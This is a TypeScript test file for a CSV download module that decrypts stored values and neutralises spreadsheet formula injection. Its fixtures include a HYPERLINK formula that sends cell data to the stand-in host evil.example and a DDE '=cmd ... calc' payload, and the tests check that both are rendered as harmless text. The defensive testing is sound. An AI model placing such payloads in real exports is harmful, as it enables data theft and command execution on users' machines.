import crypto from 'node:crypto';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import Fastify from 'fastify';
import { describe, expect, it } from 'vitest';
import { type ColumnKeys, encryptValue } from '../../lib/crypto';
import { downloadedValue, sendCsv } from './csv-download';
import { CsvOutput, copyInCsvLine, csvField, csvLine, decimalOf, numberValue } from './csv-output';

const keys: ColumnKeys = { encryptionKey: crypto.randomBytes(32), indexKey: crypto.randomBytes(32) };

/** A field as PostgreSQL's CSV output writes it: NULL empty, quoted when it holds the delimiter, " CR or LF. */
function pgField(value: string | null, delimiter: ',' | ';' = ','): string {
  if (value === null) return '';
  const special = delimiter === ',' ? /[",\r\n]/ : /[";\r\n]/;
  return special.test(value) || value === '' ? `"${value.replace(/"/g, '""')}"` : value;
}

/** The rows as `COPY ... TO STDOUT WITH (FORMAT csv, DELIMITER d)` writes them (LF line ends). */
function pgCsv(rows: (string | null)[][], delimiter: ',' | ';' = ','): Buffer {
  return Buffer.from(
    rows.map((r) => `${r.map((v) => pgField(v, delimiter)).join(delimiter)}\n`).join(''),
    'utf8',
  );
}

/** `bytes` through a CsvOutput (with the number columns `numbers`), cut at `cuts`. */
function convert(
  bytes: Buffer,
  cuts: number[],
  delimiter: ',' | ';' = ',',
  numbers: ReadonlySet<number> = new Set(),
): string {
  const output = new CsvOutput((stored) => downloadedValue(keys, stored), delimiter, numbers);
  const parts: Buffer[] = [];
  let from = 0;
  for (const cut of [...cuts.filter((c) => c > 0 && c < bytes.length).sort((a, b) => a - b), bytes.length]) {
    parts.push(output.convert(bytes.subarray(from, cut)));
    from = cut;
  }
  parts.push(output.end());
  return Buffer.concat(parts).toString('utf8');
}

describe('the CSV output of a download', () => {
  it('ends lines in CRLF and decrypts stored ciphertext, leaving quoted text as it is', () => {
    const secret = encryptValue(keys, 'Zeg "hoi", 06\n12');
    const rows = [
      ['a@x.nl', 'Jansen, J.', secret],
      ['e@x.nl', 'regel 1\nregel 2', null],
      ['enc:v1 is geen geheim', 'enc:v1:', '€ é'],
    ];
    const bytes = pgCsv(rows);
    // A value that only looks like ciphertext is passed on as it is.
    expect(convert(bytes, [])).toBe(
      'a@x.nl,"Jansen, J.","Zeg ""hoi"", 06\n12"\r\n' +
        'e@x.nl,"regel 1\nregel 2",\r\n' +
        'enc:v1 is geen geheim,enc:v1:,€ é\r\n',
    );
  });

  it('writes the Excel variant with semicolons: a field is quoted for ; " or a line break, not for a comma', () => {
    expect(csvLine(['José', 'a;b', 'Zeg "hoi"', 'r1\nr2', 'x, y', null], ';')).toBe(
      'José;"a;b";"Zeg ""hoi""";"r1\nr2";x, y;\r\n',
    );
    const secret = encryptValue(keys, 'geheim; "x"\n2');
    const bytes = pgCsv(
      [
        ['a@x.nl', 'x, y', secret],
        ['enc:v1:nep', 'a;b', null],
      ],
      ';',
    );
    expect(convert(bytes, [9, 20], ';')).toBe('a@x.nl;x, y;"geheim; ""x""\n2"\r\nenc:v1:nep;"a;b";\r\n');
  });

  it('writes every cell a spreadsheet would run as text: quoted, after an apostrophe, at any chunk cut', () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"klik")';
    const secret = encryptValue(keys, '=1+1');
    const number = encryptValue(keys, '1.5');
    for (const [delimiter, expected] of [
      [
        ',',
        `"'${hostile.replaceAll('"', '""')}","'+1+1","'@SUM(1+1)",-12,"'-12","'\tx","'\rx","'=1+1",1.5\r\n` +
          `"'-1+1","'-",-1.5,a=b,"'=a,b",,"'=a;b","'-",1.5\r\n`,
      ],
      [
        ';',
        `"'${hostile.replaceAll('"', '""')}";"'+1+1";"'@SUM(1+1)";-12;"'-12";"'\tx";"'\rx";"'=1+1";1,5\r\n` +
          `"'-1+1";"'-";-1.5;a=b;"'=a,b";;"'=a;b";"'-";1.5\r\n`,
      ],
    ] as const) {
      // Columns 3 and 8 are number columns: a plain number there stays a number.
      const bytes = pgCsv(
        [
          [hostile, '+1+1', '@SUM(1+1)', '-12', '-12', '\tx', '\rx', secret, number],
          ['-1+1', '-', '-1.5', 'a=b', '=a,b', null, '=a;b', '-', '1.5'],
        ],
        delimiter,
      );
      const numbers = new Set([2, 3, 8]);
      expect(convert(bytes, [], delimiter, numbers)).toBe(expected);
      // Every cut, and every pair of cuts, gives the same bytes (a field start, an opening
      // quote or a formula's first byte at the end of a chunk).
      for (let i = 1; i < bytes.length; i++) {
        expect(convert(bytes, [i], delimiter, numbers)).toBe(expected);
        for (let j = i + 1; j < bytes.length; j += 7)
          expect(convert(bytes, [i, j], delimiter, numbers)).toBe(expected);
      }
    }
  });

  it('neutralises header cells (csvLine) and leaves the lines for COPY FROM as they are', () => {
    expect(csvLine(['email', '=cmd|" /C calc"!A0', '@naam', ' =spatie'])).toBe(
      `email,"'=cmd|"" /C calc""!A0","'@naam", =spatie\r\n`,
    );
    expect(csvLine(['-12', '-12', '-1,5', '-1,5'], ',', new Set([0, 2]))).toBe(
      `-12,"'-12","'-1,5","'-1,5"\r\n`,
    );
    expect(csvLine(['-12', '-1,5', '-1.5'], ';', new Set([0, 1, 2]))).toBe('-12;-1,5;-1.5\r\n');
    expect(copyInCsvLine(['a@x.nl', '=1+1', '-', 'a,"b"', null])).toBe('a@x.nl,=1+1,-,"a,""b""",\r\n');
  });

  it('writes a number in the notation of each variant (numberValue)', () => {
    expect(numberValue(' 12,5 ', '.')).toBe('12.5');
    expect(numberValue('12.5', ',')).toBe('12,5');
    expect(numberValue('-3', ',')).toBe('-3');
    expect(numberValue('.5', ',')).toBe(',5');
    expect(numberValue('1.234,5', ',')).toBe('1.234,5');
    expect(numberValue('abc', '.')).toBe('abc');
  });

  it('gives csvLine of the plain values, formulas made text, wherever the chunks are cut, in both variants (property)', () => {
    const text = fc.string({
      unit: fc.constantFrom(
        'a',
        'e',
        'n',
        'c',
        ':',
        'v',
        '1',
        ',',
        ';',
        '.',
        '"',
        '\n',
        '\r',
        '\t',
        ' ',
        '=',
        '+',
        '-',
        '@',
        'é',
        '€',
        '😀',
      ),
      maxLength: 12,
    });
    const number = fc
      .tuple(fc.boolean(), fc.nat({ max: 999 }), fc.constantFrom('', '.', ',', '.5', ',25'))
      .map(([minus, n, fraction]) => `${minus ? '-' : ''}${n}${fraction}`);
    // Plain values that look like ciphertext or formulas, numbers, and ciphertext of them all.
    const plainValue = fc.oneof(
      text,
      number,
      text.map((t) => `enc:v1:${t}`),
      text.map((t) => `=${t}`),
    );
    const value = fc.oneof(
      plainValue,
      fc.constant(null),
      plainValue.map((plain) => ({ plain })),
    );
    const rows = fc.array(fc.array(value, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 8 });
    const numberColumns = fc.uniqueArray(fc.nat({ max: 3 }), { maxLength: 4 }).map((c) => new Set(c));
    fc.assert(
      fc.property(
        rows,
        fc.array(fc.nat({ max: 400 }), { maxLength: 6 }),
        fc.constantFrom(',' as const, ';' as const),
        numberColumns,
        (table, cuts, delimiter, numbers) => {
          // Stored as the import stores them (an empty value is read back as NULL: nullif).
          const stored = table.map((r) =>
            r.map((v) =>
              v === null || v === '' ? null : typeof v === 'string' ? v : encryptValue(keys, v.plain),
            ),
          );
          // A decrypted number of a number column in the variant's decimal notation.
          const plain = table.map((r) =>
            r.map((v, i) =>
              v === null || typeof v === 'string'
                ? v
                : numbers.has(i)
                  ? numberValue(v.plain, decimalOf(delimiter))
                  : v.plain,
            ),
          );
          const out = convert(pgCsv(stored, delimiter), cuts, delimiter, numbers);
          expect(out).toBe(plain.map((r) => csvLine(r, delimiter, numbers)).join(''));
          // Read back, every cell is its value, a formula behind an apostrophe.
          const cells = parse(out, { delimiter, relax_column_count: true }) as string[][];
          expect(cells).toEqual(
            plain.map((r) =>
              r.map((v, i) => {
                const cell = v ?? '';
                const isPlainNumber = numbers.has(i) && csvField(cell, delimiter, true) === cell;
                return /^[=+\-@\t\r]/.test(cell) && !isPlainNumber ? `'${cell}` : cell;
              }),
            ),
          );
        },
      ),
      { numRuns: 2000 },
    );
  });
});

describe('sendCsv', () => {
  it('answers only on a route marked as a CSV download (the routes csv-downloads.test.ts walks)', async () => {
    const app = Fastify();
    async function* body() {
      yield Buffer.from('a\r\n');
    }
    app.get('/marked', { config: { csvDownload: true } }, (_request, reply) =>
      sendCsv(reply, 'a.csv', body()),
    );
    app.get('/unmarked', (_request, reply) => sendCsv(reply, 'a.csv', body()));
    try {
      const marked = await app.inject({ method: 'GET', url: '/marked' });
      expect(marked.statusCode).toBe(200);
      expect(marked.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(marked.body).toBe('a\r\n');
      expect((await app.inject({ method: 'GET', url: '/unmarked' })).statusCode).toBe(500);
    } finally {
      await app.close();
    }
  });
});
